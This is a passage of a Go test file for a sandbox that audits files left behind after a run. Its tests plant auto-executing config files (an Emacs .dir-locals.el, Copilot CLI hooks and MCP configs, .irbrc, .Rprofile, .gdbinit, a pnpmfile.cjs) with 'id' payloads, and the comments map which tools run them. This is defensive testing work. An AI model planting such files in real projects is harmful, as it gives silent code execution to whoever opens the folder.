	testenv.RequireTool(t, "git")
	w := newWorld(t)
	if out, err := w.hostGit(w.proj, "init", "-q"); err != nil {
		t.Fatal(err, out)
	}
	r := w.sh(`mkdir -p pkg && echo '((nil . ((eval . (shell-command "id")))))' > pkg/.dir-locals.el && echo WROTE`)
	if !strings.Contains(r.stdout, "WROTE") {
		t.Fatalf("the sandbox could not write the file at all (the test proves nothing): exit %d\n%s", r.code, r.stderr)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, "pkg", ".dir-locals.el")); err == nil {
		t.Errorf("the planted pkg/.dir-locals.el is still where Emacs reads it:\n%s", r.stderr)
	}
}

// GitHub Copilot CLI runs the commands of .github/hooks/*.json (sessionStart,
// preToolUse, ...) and of the hooks in .github/copilot/settings.json and
// settings.local.json, starts .github/mcp.json's servers and loads .github/skills, in a
// folder trusted once (its trust is per folder, not per content): read in Copilot CLI
// 1.0.102's code (hostile review, session 21; its hooks run only once logged in, which
// the review could not be). Moved aside when added, at the top and in a plain pkg/.
func TestSandboxPostRunAuditCopilotConfig(t *testing.T) {
	testenv.RequireTool(t, "git")
	w := newWorld(t)
	if out, err := w.hostGit(w.proj, "init", "-q"); err != nil {
		t.Fatal(err, out)
	}
	files := []string{".github/hooks/h.json", ".github/copilot/settings.json", ".github/mcp.json", ".github/skills/s/SKILL.md", "pkg/.github/mcp.json", "pkg/.github/hooks/h.json"}
	r := w.sh(`for f in ` + strings.Join(files, " ") + `; do mkdir -p "$(dirname $f)" && echo '{"hooks":{}}' > $f || exit 1; done; echo WROTE`)
	if !strings.Contains(r.stdout, "WROTE") {
		t.Fatalf("the sandbox could not write the files at all (the test proves nothing): exit %d\n%s", r.code, r.stderr)
	}
	for _, f := range files {
		if _, err := os.Lstat(filepath.Join(w.proj, f)); err == nil {
			t.Errorf("the planted %s is still where Copilot CLI reads it:\n%s", f, r.stderr)
		}
	}
}

// irb loads the first rc it finds, the current directory's .irbrc (or irb.rc, _irbrc,
// $irbrc) when you have none at home, and pry loads ./.pryrc after yours (hostile
// review, session 21, irb 1.4.1 of Debian's Ruby 3.1 as an unprivileged user: a plain
// irb in the project ran each name's Ruby). At the top, read-only when present;
// anywhere, moved aside when added.
func TestSandboxPostRunAuditRubyRC(t *testing.T) {
	auditPlants(t, []string{".irbrc", "irb.rc", "_irbrc", ".pryrc"}, `system("id")`)
	w := newWorld(t)
	r := w.sh(`mkdir -p pkg && echo 'system("id")' > 'pkg/$irbrc' && echo 'system("id")' > pkg/.irbrc && echo WROTE`)
	if !strings.Contains(r.stdout, "WROTE") {
		t.Fatalf("the sandbox could not write the files at all (the test proves nothing): exit %d\n%s", r.code, r.stderr)
	}
	for _, f := range []string{"pkg/$irbrc", "pkg/.irbrc"} {
		if _, err := os.Lstat(filepath.Join(w.proj, f)); err == nil {
			t.Errorf("the planted %s is still where irb reads it:\n%s", f, r.stderr)
		}
	}
}

// R runs the current directory's .Rprofile at start instead of yours (R and Rscript
// alike) and sets the variables of its .Renviron (R_PROFILE_USER, R_LIBS); renv's
// .Rprofile sources renv/activate.R (hostile review, session 21, R 4.2.2 of Debian as an
// unprivileged user: Rscript -e 1 in the project ran each). At the top, read-only when
// present; anywhere, moved aside when added.
func TestSandboxPostRunAuditRProfile(t *testing.T) {
	auditPlants(t, []string{".Rprofile", ".Renviron"}, `system("id")`)
	w := newWorld(t)
	r := w.sh(`mkdir -p renv pkg/renv && echo 'system("id")' > renv/activate.R && echo 'system("id")' > pkg/.Rprofile && echo 'system("id")' > pkg/renv/activate.R && echo WROTE`)
	if !strings.Contains(r.stdout, "WROTE") {
		t.Fatalf("the sandbox could not write the files at all (the test proves nothing): exit %d\n%s", r.code, r.stderr)
	}
	for _, f := range []string{"renv/activate.R", "pkg/.Rprofile", "pkg/renv/activate.R"} {
		if _, err := os.Lstat(filepath.Join(w.proj, f)); err == nil {
			t.Errorf("the planted %s is still where R reads it:\n%s", f, r.stderr)
		}
	}
}

// gdb runs the current directory's .gdbinit when your auto-load safe-path covers the
// directory, a path, not a content (hostile review, session 21, Debian's gdb 13.1 as an
// unprivileged user: with add-auto-load-safe-path naming the project, gdb -batch there
// ran a rewritten .gdbinit's shell line). At the top, read-only when present; anywhere,
// moved aside when added.
func TestSandboxPostRunAuditGdbinit(t *testing.T) {
	auditPlants(t, []string{".gdbinit"}, `shell id`)
	w := newWorld(t)
	r := w.sh(`mkdir -p pkg && echo 'shell id' > pkg/.gdbinit && echo WROTE`)
	if !strings.Contains(r.stdout, "WROTE") {
		t.Fatalf("the sandbox could not write the file at all (the test proves nothing): exit %d\n%s", r.code, r.stderr)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, "pkg", ".gdbinit")); err == nil {
		t.Errorf("the planted pkg/.gdbinit is still where gdb reads it:\n%s", r.stderr)
	}
}

// A pnpm plugin config dependency's pnpmfile.cjs, in node_modules/.pnpm-config, is
// required on every pnpm command (hostile review, session 21, pnpm 10.34.9): present at
// launch, read-only inside; absent, moved aside when the run creates it, node_modules
// or not.
func TestSandboxPostRunAuditPnpmConfigDependency(t *testing.T) {
	w := newWorld(t)
	w.write(filepath.Join(w.proj, "pnpm-workspace.yaml"), "configDependencies:\n  pnpm-plugin-foo: 1.0.0+sha512-AA\n  '@pnpm/plugin-bar': 1.0.0+sha512-BB\n")
	foo := filepath.Join(w.proj, "node_modules", ".pnpm-config", "pnpm-plugin-foo", "pnpmfile.cjs")
	w.write(foo, "module.exports = {}\n")
	r := w.sh(`echo 'require("child_process").execSync("id")' > node_modules/.pnpm-config/pnpm-plugin-foo/pnpmfile.cjs && echo WROTE-foo; ` +
		`mkdir -p node_modules/.pnpm-config/@pnpm/plugin-bar && echo 'module.exports={}' > node_modules/.pnpm-config/@pnpm/plugin-bar/pnpmfile.cjs && echo WROTE-bar; true`)
	if b, _ := os.ReadFile(foo); string(b) != "module.exports = {}\n" || strings.Contains(r.stdout, "WROTE-foo") {
		t.Errorf("the sandbox rewrote the plugin's pnpmfile.cjs: %q (%q)", b, r.stdout)
	}
	if !strings.Contains(r.stdout, "WROTE-bar") {
		t.Fatalf("the sandbox could not write the other plugin at all (the test proves nothing): %q\n%s", r.stdout, r.stderr)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, "node_modules", ".pnpm-config", "@pnpm", "plugin-bar", "pnpmfile.cjs")); err == nil {
		t.Errorf("the planted @pnpm/plugin-bar/pnpmfile.cjs is still where pnpm requires it:\n%s", r.stderr)
	}
}
